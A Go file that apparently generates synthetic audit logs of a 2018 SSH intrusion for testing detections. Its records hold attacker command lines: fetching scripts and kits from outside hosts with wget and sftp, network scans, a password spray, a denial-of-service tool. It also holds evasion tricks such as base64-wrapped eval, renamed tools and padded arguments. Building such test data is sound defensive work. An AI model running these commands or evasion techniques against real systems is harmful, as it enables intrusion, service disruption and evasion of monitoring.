package replay

import (
	"cmp"
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"path"
	"slices"
	"strings"
	"time"
)

// Disguise is how an attacker hides what is done. The zero value hides nothing.
type Disguise struct {
	Rename  bool   // every tool of the attacker's own has a name by chance
	Wrap    bool   // commands are started by eval of text in base64
	Pad     bool   // an argument longer than a record is added
	Through string // "busybox", "perl" or "python": what starts the system's commands
	Other   bool   // other networks, ports, numbers and file names
	Seed    uint64
	By      Actor
}

// Actor is who does it, as far as others can see. Of the zero value all is as in the post.
type Actor struct {
	Account       string
	First, Second string // addresses of the two sign-ins
	Scripts       string // the host that scripts are fetched from
	Drop          string // the host that the first kit is fetched from
}

// or fills what isn't told.
func (a Actor) or(b Actor) Actor {
	return Actor{cmp.Or(a.Account, b.Account), cmp.Or(a.First, b.First), cmp.Or(a.Second, b.Second), cmp.Or(a.Scripts, b.Scripts), cmp.Or(a.Drop, b.Drop)}
}

// Step is one behaviour of the intrusion by its number, and when it began.
type Step struct {
	Row  int
	Name string
	At   time.Time
}

// intruder writes what the attacker does in one session.
type intruder struct {
	*Log
	d       Disguise
	rnd     *rand.Rand
	names   map[string]string
	shell   Process
	session uint32
	steps   []Step
}

// Intrusion writes the intrusion of the post of 24 November 2018 to a log: a service's account with a default password, a look around, a kit that scans, hours later
// another one that sprays passwords. It returns the behaviours that are to be found.
func Intrusion(l *Log, d Disguise) []Step {
	d.By = d.By.or(Actor{"cassandra", "203.0.113.7", "203.0.114.91", "nasapaul.com", "198.51.100.44"})
	in := &intruder{Log: l, d: d, rnd: rand.New(rand.NewPCG(d.Seed, 24)), names: map[string]string{}}
	in.signIn(d.By.Account, d.By.First, 3)
	in.enumerate()
	l.Wait(40 * time.Minute)
	in.signIn(d.By.Account, d.By.Second, 4)
	in.firstKit()
	l.Wait(2 * time.Hour)
	in.removeKit()
	in.secondKit()
	return in.steps
}

func (in *intruder) step(row int, name string) {
	in.steps = append(in.steps, Step{row, name, in.Now})
}

func (in *intruder) signIn(account, addr string, session uint32) {
	row, name := 1, "service account signs in"
	if session > 3 {
		row, name = 2, "second address"
	}
	in.step(row, name)
	in.SignIn(account, addr, 112, session, true)
	in.session = session
	in.shell = Process{PID: in.PID(), Parent: in.PID(), AUID: 112, UID: 112, Session: session, TTY: "pts0", Dir: "/var/lib/" + account}
	in.Exec(in.shell, "/bin/bash", []string{"-bash"})
	in.Wait(3 * time.Second)
}

// name is what the attacker calls a tool of their own.
func (in *intruder) name(tool string) string {
	if !in.d.Rename {
		return tool
	}
	if in.names[tool] == "" {
		b := make([]byte, 1+in.rnd.IntN(8))
		for i := range b {
			b[i] = byte('a' + in.rnd.IntN(26))
		}
		if strings.ContainsRune(tool, '.') {
			b = append(b, path.Ext(tool)...)
		}
		for _, n := range in.names {
			if n == string(b) {
				b = append(b, 'q')
			}
		}
		in.names[tool] = string(b)
	}
	return in.names[tool]
}

// run starts a program below the shell, in the disguise asked for.
func (in *intruder) run(args ...string) Process {
	p := in.shell
	p.PID, p.Parent = in.PID(), in.shell.PID
	if in.d.Pad {
		args = append(slices.Clone(args), strings.Repeat("A", 9000))
	}
	if in.d.Wrap {
		line := quoteAll(args)
		code := base64.StdEncoding.EncodeToString([]byte(line))
		in.Exec(p, "/bin/bash", []string{"bash", "-c", `eval "$(echo ` + code + ` | base64 -d)"`})
		d := p
		d.PID, d.Parent = in.PID(), p.PID
		in.Exec(d, "/usr/bin/base64", []string{"base64", "-d"})
		child := p
		child.PID, child.Parent = in.PID(), p.PID
		in.start(child, args)
		return child
	}
	in.start(p, args)
	return p
}

// start starts one program: the system's by its name, the attacker's own by its path.
func (in *intruder) start(p Process, args []string) {
	tool := args[0]
	if strings.Contains(tool, "/") {
		file := path.Join(p.Dir, tool)
		if strings.HasPrefix(tool, "/") {
			file = tool
		}
		in.Exec(p, file, args)
		return
	}
	switch in.d.Through {
	case "busybox":
		if tool == "wget" || tool == "chmod" || tool == "rm" || tool == "uname" || tool == "df" || tool == "free" || tool == "tar" || tool == "grep" || tool == "uptime" {
			in.Exec(p, "/bin/busybox", append([]string{"busybox"}, args...))
			return
		}
	case "perl":
		in.Exec(p, "/usr/bin/perl", []string{"perl", "-e", "system(" + quotedList(args) + ");"})
		p.Parent, p.PID = p.PID, in.PID()
	case "python":
		in.Exec(p, "/usr/bin/python3", []string{"python3", "-c", "import subprocess;subprocess.call([" + quotedList(args) + "])"})
		p.Parent, p.PID = p.PID, in.PID()
	}
	in.Exec(p, "/usr/bin/"+tool, args)
}

// script starts a script of the attacker's own, by its interpreter's line.
func (in *intruder) script(interpreter, file string, args ...string) Process {
	p := in.shell
	p.PID, p.Parent = in.PID(), in.shell.PID
	if in.d.Pad {
		args = append(slices.Clone(args), strings.Repeat("A", 9000))
	}
	in.Exec(p, file, append([]string{interpreter, file}, args...))
	return p
}

func quoteAll(args []string) string {
	q := make([]string, len(args))
	for i, a := range args {
		q[i] = "'" + strings.ReplaceAll(a, "'", `'\''`) + "'"
	}
	return strings.Join(q, " ")
}

func quotedList(args []string) string {
	q := make([]string, len(args))
	for i, a := range args {
		q[i] = "'" + a + "'"
	}
	return strings.Join(q, ",")
}

func (in *intruder) enumerate() {
	in.step(3, "script from a known malicious source")
	in.run("wget", "http://"+in.d.By.Scripts+"/"+in.name("speed"))
	in.Wait(2 * time.Second)
	in.step(4, "host enumeration")
	p := in.shell
	in.run("perl", in.name("speed"))
	for _, c := range [][]string{
		{"grep", "-m", "1", "model name", "/proc/cpuinfo"},
		{"cut", "-d:", "-f2"},
		{"sed", "-e", "s/^ */ /"},
		{"grep", "-c", "^processor", "/proc/cpuinfo"},
		{"lsb_release", "-si"},
		{"free", "-m"},
		{"grep", "-oP", `\d+`},
		{"head", "-n", "1"},
		{"uname", "-a"},
		{"tput", "bold"},
		{"lspci"},
		{"grep", "VGA"},
		{"df", "-h", "--total"},
		{"awk", `{printf "" $2 "B\n\n" }`},
	} {
		in.run(c...)
	}
	in.step(5, "bandwidth test")
	in.run("wget", "-O", "/dev/null", "http://"+in.d.By.Scripts+"/speedtest/100mb.bin")
	in.shell = p
}

func (in *intruder) firstKit() {
	in.step(6, "kit fetched by SFTP")
	in.run("sftp", "kits@"+in.d.By.Drop)
	in.Wait(time.Minute)
	in.shell.Dir = "/var/lib/" + in.d.By.Account + "/.cache"
	tools := []string{"1", "cyberinfo", "cybernetikrandom", "go", "h4e", "petarda", "port", "pscan2", "screen", "speedtestvps.py", "sshd"}
	in.step(7, "kit made executable")
	in.run(append([]string{"chmod", "+x"}, in.all(tools)...)...)
	in.Wait(5 * time.Second)
	for _, net := range in.networks("10.31", "10.62") {
		in.step(8, "scan of a network")
		in.script("/bin/bash", "./"+in.name("go"), net)
		in.run("./"+in.name("pscan2"), net, in.pick("22", "2222"))
		in.step(9, "masquerading sshd")
		in.run("./"+in.name("sshd"), in.pick("100", "350"))
		in.Wait(30 * time.Second)
	}
	in.step(10, "denial of service")
	in.script("/usr/bin/perl", "./"+in.name("h4e"), in.pick("198.51.100.200", "192.0.2.77"), in.pick("53", "80"), in.pick("1400", "600"))
}

func (in *intruder) removeKit() {
	in.step(11, "kit removed")
	tools := []string{"1", "cyberinfo", "cybernetikrandom", "go", "h4e", "petarda", "port", "pscan2", "screen", "speedtestvps.py", "sshd"}
	in.run(append([]string{"rm", "-rf"}, in.all(tools)...)...)
	in.Wait(10 * time.Second)
}

func (in *intruder) secondKit() {
	in.step(12, "second kit fetched from the web")
	in.run("wget", "http://"+in.pick("files.example.net", "dl.example.org")+"/kit.tgz")
	in.run("tar", "xzf", "kit.tgz")
	in.Wait(5 * time.Second)
	in.run(append([]string{"chmod", "+x"}, in.all([]string{"a", "all", "classes", "co", "gasite.txt", "hu", "pass", "range", "scan.log", "ssh2", "x"})...)...)
	for _, net := range in.networks("10.49", "172.66", "10.81", "192.12") {
		in.step(13, "password spray")
		p := in.script("/bin/bash", "./"+in.name("a"), net)
		shell := in.shell
		in.shell = p
		in.shell.Dir = shell.Dir
		in.run("./"+in.name("ssh2"), in.pick("1500", "800"), "-b", net, in.name("pass"), in.pick("22", "2222"), in.pick("uname -a & lscpu", "cat /proc/cpuinfo; id"))
		in.shell = shell
		in.Wait(90 * time.Second)
	}
	in.step(14, "results read")
	in.run("nano", in.name("gasite.txt"))
}

// all are the attacker's names of tools.
func (in *intruder) all(tools []string) []string {
	out := make([]string, len(tools))
	for i, t := range tools {
		out[i] = in.name(t)
	}
	return out
}

func (in *intruder) pick(usual, other string) string {
	if in.d.Other {
		return other
	}
	return usual
}

// networks are those the post has, or others.
func (in *intruder) networks(usual ...string) []string {
	if !in.d.Other {
		return usual
	}
	out := make([]string, len(usual))
	for i := range out {
		out[i] = fmt.Sprintf("%d.%d", 11+in.rnd.IntN(200), in.rnd.IntN(256))
	}
	return out
}
